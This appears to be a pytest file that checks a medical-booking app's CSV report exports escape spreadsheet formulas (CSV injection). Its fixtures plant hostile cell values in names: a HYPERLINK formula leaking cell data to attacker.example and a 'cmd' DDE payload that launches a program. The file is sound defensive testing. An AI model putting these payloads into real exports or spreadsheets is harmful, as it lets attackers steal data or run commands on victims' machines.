"""CSV exports cannot carry a spreadsheet formula (issue 15.6, OWASP "CSV injection"): text
starting with = + - @ (and | %, which defusedcsv adds), tab or carriage return is written with a
leading `'`; numbers, negative amounts included, stay numbers."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
import yaml

from reports.renderers import CSVRenderer
from tests.factories import AppointmentFactory, PatientFactory, in_hours

pytestmark = pytest.mark.django_db

SCHEMA = yaml.safe_load(
    (Path(__file__).parents[2] / "api_schema" / "openapi.yaml").read_text(encoding="utf-8")
)
CSV_EXPORTS = sorted(
    path
    for path, item in SCHEMA["paths"].items()
    if "text/csv" in item.get("get", {}).get("responses", {}).get("200", {}).get("content", {})
)
# Who reads each export.
READERS = {
    "/api/v1/reports/bookings/": "platform_admin",
    "/api/v1/reports/revenue/": "platform_admin",
    "/api/v1/reports/user-activity/": "platform_admin",
    "/api/v1/reports/doctors/": "platform_admin",
    "/api/v1/reports/me/": "doctor",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%")
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_every_csv_export_is_checked():
    assert sorted(READERS) == CSV_EXPORTS


@pytest.fixture
def hostile_names(world):
    """The world's doctor, specialty, clinic and a patient named like formulas, with completed
    appointments in the report range, one paid and one refunded."""
    doctor = world.doctor
    doctor.user.first_name, doctor.user.last_name = HYPERLINK, "@SUM(1+1)"
    doctor.user.save(update_fields=["first_name", "last_name"])
    doctor.specialty.name = "+cmd|' /C calc'!A0"
    doctor.specialty.save(update_fields=["name"])
    world.clinic.name = "-2+3+cmd|' /C calc'!A0"
    world.clinic.save(update_fields=["name"])
    patient = PatientFactory(user__first_name="\tTab", user__last_name="\rReturn")
    for hours, status, payment in [(-30, "completed", "paid"), (-50, "completed", "refunded")]:
        AppointmentFactory(
            patient=patient,
            slot__doctor=doctor,
            slot__clinic=world.clinic,
            slot__start=in_hours(hours),
            status=status,
            payment_status=payment,
        )
    return world


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("path", sorted(READERS))
def test_no_csv_export_starts_a_cell_with_a_formula(client_for, hostile_names, path):
    client = client_for(hostile_names.actor(READERS[path]))
    rows = read_csv(client.get(f"{path}?format=csv"))
    assert len(rows) > 1, rows  # a header and at least one row of figures
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (path, cell)


def test_the_doctors_export_escapes_names_and_specialties(client_for, hostile_names):
    client = client_for(hostile_names.platform_admin)
    rows = read_csv(client.get("/api/v1/reports/doctors/?format=csv"))
    header, *data = rows
    by_doctor = {row[header.index("doctor")]: dict(zip(header, row, strict=True)) for row in data}
    mine = by_doctor[str(hostile_names.doctor.pk)]
    assert mine["name"] == f"'{HYPERLINK} @SUM(1+1)"
    assert mine["specialty"] == "'+cmd\\|' /C calc'!A0"
    # JSON is not a spreadsheet: the same report as JSON carries the names as they are.
    body = client.get("/api/v1/reports/doctors/").json()
    names = {row["doctor"]: row["name"] for row in body["results"]}
    assert names[str(hostile_names.doctor.pk)] == f"{HYPERLINK} @SUM(1+1)"


def test_the_renderer_escapes_text_and_keeps_numbers():
    class View:
        csv_columns = ["text", "amount"]

    rows = [
        {"text": "=1+1", "amount": "-12.50"},
        {"text": "+1", "amount": "-1,234.50"},
        {"text": "-1+2", "amount": Decimal("-3.00")},
        {"text": "@SUM(A1)", "amount": -7},
        {"text": "\tinvisible", "amount": "0.00"},
        {"text": "\r=1+1", "amount": None},
        {"text": "plain = text", "amount": "12"},
    ]
    raw = CSVRenderer().render({"results": rows}, renderer_context={"view": View()})
    assert list(csv.reader(io.StringIO(raw.decode()))) == [
        ["text", "amount"],
        ["'=1+1", "-12.50"],
        ["'+1", "-1,234.50"],
        ["'-1+2", "-3.00"],
        ["'@SUM(A1)", "-7"],
        ["'\tinvisible", "0.00"],
        ["'\r=1+1", ""],
        ["plain = text", "12"],
    ]
